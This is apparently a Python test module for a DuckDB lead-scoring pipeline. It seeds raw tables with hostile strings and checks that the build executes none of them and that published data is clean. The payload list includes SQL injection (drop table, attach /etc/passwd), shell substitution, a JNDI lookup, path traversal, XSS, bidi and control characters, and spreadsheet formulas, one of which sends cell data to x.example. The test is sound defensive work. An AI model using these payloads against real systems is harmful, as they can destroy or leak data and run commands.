"""Values that attack whoever reads them, put into every text column of every raw table.

A demo gets more rows, copies of its own, each with one hostile value and a key of its own.
The build has to pass: a value that somebody typed must stop nobody's work. Nothing in
it may be executed, and what is published may hold no character that hides, reorders or
controls text.
"""

import random
import re
import subprocess
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import duckdb
from conftest import PROJECT, rows_of, run
from support import databases, raw_contract
from support.demo.generator import Demo, generate
from support.raw_contract import RawColumn, RawTable

LAST_DAY = date(2026, 6, 30)
LONGEST = 10_000_000
# Whoever executes a value leaves this behind: a table, or a file.
MARK = "pwned"
VALUES = (
    # SQL
    f"'; create table {MARK} as select 1; --",
    f"'); drop table people; create table {MARK}(x int); --",
    f'" ; create table {MARK} as select 1; --',
    "' or '1'='1",
    "Robert'); drop schema marts cascade;--",
    "1; attach '/etc/passwd' as x",
    "/* */ union all select null --",
    "$$; select 1; $$",
    "100%_\\",
    # Jinja, shell, format strings
    "{{ run_query('create table pwned as select 1') }}",
    "{% set x = 7 %}{{ x * 6 }}",
    "{# comment #}",
    "{{ env_var('HOME') }}",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "%s%s%s%n {0} {x.__class__}",
    "${jndi:ldap://x.example/a}",
    "../../../../etc/passwd",
    # Spreadsheets
    '=HYPERLINK("http://x.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    # Pages and terminals
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "[bold red]markup[/bold red]",
    # Characters
    "nul\x00byte",
    "bell\x07 backspace\x08 delete\x7f",
    "c1 \x80\x85\x9b31m",
    "right\u202eto\u202cleft",
    "isolate\u2067d\u2069",
    "mark\u200e\u200f\u061c",
    "zero\u200bwidth\u200d\u2060",
    "\ufeffbyte order",
    "line\u2028paragraph\u2029",
    "new\nline\r\nand tab\t",
    "soft\u00adhyphen",
    "Z\u0335\u0321\u031b\u0353" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3e5\U0001f9d1\u200d\u2695\ufe0f",
    "\u674e\u660e \u0645\u062d\u0645\u062f",
    "\uffff\ufffe",
    # Dates and numbers
    "9999-12-31",
    "9999-12-31 23:59:59.999999+14:00",
    "0000-00-00",
    "0001-01-01",
    "-4713-11-24",
    "infinity",
    "-infinity",
    "2026-02-30",
    "2026-06-30T25:61:61Z",
    "99999999999999999999",
    "253402300800",
    "1e400",
    "-1e400",
    "NaN",
    "0x7fffffffffffffff",
    "-0",
    "1" * 400,
    "0." + "0" * 400 + "1",
    "null",
    "None",
    "undefined",
    "true",
    # Shapes
    "",
    " ",
    "'",
    '"',
    ",",
    "\\",
    "|",
    '{"a": [1, {"b": null}]}',
    "[" * 500,
    "a@b@c.example",
    "@".join(["x" * 300, "y" * 300 + ".example"]),
    "+1" + "5" * 60,
    "(((((((555",
    "http://[::1]:99999/%00%zz?q=" + "a" * 5000,
    "//evil.example\\@clinic.example/%2e%2e",
    "word " * 2000,
)
UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]"
)
# Words of our own rule tables and of the build's memory are not from raw files.
OWN_SCHEMAS = ("rules", "reference", "raw_landing")


@dataclass
class Outcome:
    """How many values went in, how the build ended, and a sentence for each fault."""

    values: int = 0
    columns: int = 0
    output: str = ""
    faults: list[str] = field(default_factory=list)


def drill(folder: Path, each: int, people: int, seed: int) -> Outcome:
    """Build a demo of so many people with hostile values in it.

    Args:
        each: so many values for each text column, fewer where the table is short.
        seed: which rows and values meet follows from it.
    """
    raw, data = folder / "raw", folder / "data"
    demo = Demo(
        people=people,
        days=60,
        events=5 * people,
        seed=seed,
        until=LAST_DAY,
    )
    generate(demo, raw, lambda *_: None)
    outcome = Outcome()
    tables = raw_contract.declared_tables(PROJECT)
    outcome.columns = sum(len(_attacked(table)) for table in tables)
    chance = random.Random(seed)
    for table in tables:
        outcome.values += _poison(raw, table, each, chance)
    built = run(
        [PROJECT / "scripts" / "build", "--as-of", LAST_DAY],
        LEAD_SCORING_RAW=str(raw),
        LEAD_SCORING_DB=str(data / "lead_scoring.duckdb"),
    )
    outcome.output = built.output
    if built.status or "Traceback" in built.output:
        outcome.faults.append(f"the build ended with {built.status}: {built.output}")
        return outcome
    if "\x1b" in built.output:
        outcome.faults.append("the terminal got an escape sequence from a value")
    look(folder, data, outcome.faults, but=OWN_SCHEMAS)
    return outcome


def _attacked(table: RawTable) -> list[RawColumn]:
    return [column for column in table.columns if column.name not in table.primary_key]


def _poison(raw: Path, table: RawTable, each: int, chance: random.Random) -> int:
    """Add rows to a table's file, ``each`` per column, with one hostile value in each.

    A table gets a third of the rows that it has, at most, and a column of times, numbers
    or flags one for 20 that it has: a table that is mostly set aside, or a column that is
    mostly unreadable, stops the build, and should.
    """
    (path,) = (raw / table.connector).glob(f"{table.name}.*")
    with duckdb.connect() as connection:
        connection.execute("set TimeZone = 'UTC'")
        found = connection.execute(
            f"select cast(columns(*) as varchar) from {rows_of(path)}"
        )
        header = [column[0] for column in found.description]
        rows = [list(row) for row in found.fetchall()]
        if not rows:
            return 0
        added: list[list] = []
        each = max(1, min(each, len(rows) // (3 * len(_attacked(table)))))
        for column in _attacked(table):
            if column.name not in header:
                continue
            place = header.index(column.name)
            known = sum(row[place] is not None for row in rows)
            many = each if column.kind == "text" else min(each, known // 20)
            for number in range(many):
                row = list(chance.choice(rows))
                value = VALUES[(len(added) + number) % len(VALUES)]
                if number == 0 and column.kind == "text" and chance.random() < 0.1:
                    value = "x" * LONGEST
                row[place] = value
                for key in table.primary_key:
                    own = header.index(key)
                    # Keys stay readable, so that the row is not set aside for its key.
                    row[own] = str(7_000_000_000 + len(added)) + table.name[0] * (
                        not (rows[0][own] or "").isdecimal()
                    )
                added.append(row)
        # CSV can't carry a NUL; the rest goes through the file's own format.
        is_csv = path.suffix == ".csv"
        added = [
            [v.replace("\x00", "") if is_csv and v else v for v in row] for row in added
        ]
        connection.execute(
            "create table rows ("
            + ", ".join(f'"{name}" varchar' for name in header)
            + ")"
        )
        marks = ", ".join("?" * len(header))
        connection.executemany(f"insert into rows values ({marks})", rows + added)
        form = "format csv, header" if is_csv else "format parquet"
        path.unlink()
        connection.execute(f"copy rows to '{path}' ({form})")
    return len(added)


def look(folder: Path, data: Path, faults: list[str], but: Sequence[str] = ()) -> None:
    """Look for what hostile values did, in all that a build made of them.

    Args:
        folder: where nothing may have been left behind.
        data: where the build's database and the published files are.
        faults: gets a sentence for each thing found.
        but: schemas whose texts were not attacked.
    """
    _look_for_marks(folder, data, faults)
    _look_at_texts(data / "current.duckdb", but, faults)
    _export(folder, data, faults)


def _look_for_marks(folder: Path, data: Path, faults: list[str]) -> None:
    for place in (folder, PROJECT):
        listed = subprocess.run(
            ["find", str(place), "-name", f"*{MARK}*", "-not", "-path", "*/.venv/*"],
            capture_output=True,
            text=True,
            check=True,
        )
        faults.extend(f"executed: {name}" for name in listed.stdout.split())
    for name in ("lead_scoring.duckdb", "current.duckdb", "bi.duckdb"):
        with databases.opened(data / name, read_only=True) as connection:
            if connection.execute(
                "select 1 from information_schema.tables where table_name like ?",
                [f"%{MARK}%"],
            ).fetchall():
                faults.append(f"executed: a table {MARK} in {name}")


def _look_at_texts(database: Path, but: Sequence[str], faults: list[str]) -> None:
    with databases.opened(database, read_only=True) as connection:
        for schema, table, column in connection.execute("""
            select table_schema, table_name, column_name
            from information_schema.columns
            where data_type = 'VARCHAR'
        """).fetchall():
            if schema in but:
                continue
            query = f'select distinct "{column}" from "{schema}"."{table}"'
            bad = [
                value
                for (value,) in connection.execute(query).fetchall()
                if value and UNSEEN.search(value)
            ]
            if bad:
                faults.append(
                    f"{schema}.{table}, {column}: {len(bad)} values with hidden "
                    f"characters, such as {bad[0][:60]!a}"
                )


def _export(folder: Path, data: Path, faults: list[str]) -> None:
    """Take every mart out for a spreadsheet, which must find no formula in it."""
    with duckdb.connect(str(data / "bi.duckdb"), read_only=True) as connection:
        marts = connection.execute("select table_name from information_schema.tables")
        names = [name for (name,) in marts.fetchall()]
    for name in names:
        file = folder / f"{name}.csv"
        done = run(
            [PROJECT / "scripts" / "export", name, "--output", file],
            LEAD_SCORING_DB=str(data / "lead_scoring.duckdb"),
        )
        if done.status:
            faults.append(f"export of {name}: {done.output}")
            continue
        with duckdb.connect() as connection:
            found = connection.execute(
                f"from read_csv('{file}', all_varchar = true, header = true)"
            ).fetchall()
        formulas = [
            value
            for row in found
            for value in row
            if value
            and value.lstrip()[:1] in ("=", "+", "-", "@")
            and not re.fullmatch(r"[-+]?[0-9.]+", value)
        ]
        if formulas:
            faults.append(f"export of {name}: {formulas[0]!r} is a formula")
